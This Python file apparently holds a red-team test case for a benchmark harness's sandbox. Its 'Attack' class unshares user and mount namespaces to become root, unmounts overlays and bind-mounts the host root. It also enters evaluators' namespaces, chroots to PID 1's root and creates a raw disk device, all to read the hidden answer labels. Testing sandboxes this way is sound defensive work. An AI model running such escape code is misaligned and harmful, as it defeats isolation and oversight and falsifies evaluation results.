"""Makes namespaces of its own in which it is root, and looks for a way out: mounts, /proc of others, device files."""

import ctypes
import os
from pathlib import Path

from aim import AIM, attempt, evaluators, read

from run import ZEWDPCBaseRun

NEW_USER, NEW_MOUNT = 0x10000000, 0x00020000
BIND, MOVE, REMOUNT = 4096, 8192, 32


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        child = os.fork()
        if child:
            os.waitpid(child, 0)
            return
        libc = ctypes.CDLL(None, use_errno=True)
        user = os.getuid()
        if libc.unshare(NEW_USER | NEW_MOUNT) == 0:
            for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {os.getgid()} 1")):
                attempt(lambda name=name, text=text: Path(f"/proc/self/{name}").write_text(text))
            # Take away what was laid over the host's files, if anything was.
            for place in (b"/scratch", b"/proc", b"/etc/passwd", b"/kit/run.py", b"/dev/shm", b"/submission"):
                libc.umount2(place, 2)
            libc.mount(b"/", b"/scratch", None, BIND, None)
            libc.mount(b"proc", b"/proc", b"proc", 0, None)
            libc.mount(None, b"/", None, BIND | REMOUNT, None)
        for pid in (1, *evaluators()):
            read(f"/proc/{pid}/root{AIM['labels']}")
            for kind in ("mnt", "pid", "user", "net"):
                descriptor = attempt(os.open, f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
                if descriptor is not None:
                    libc.setns(descriptor, 0)
        attempt(os.setuid, 0)
        attempt(os.chroot, "/proc/1/root")
        attempt(os.mknod, os.path.expanduser("~/disk"), 0o60666, os.makedev(254, 0))
        for path in (AIM["labels"], "/scratch" + AIM["labels"], "/oldroot" + AIM["labels"], "/newroot" + AIM["labels"]):
            read(path)
        os._exit(0)
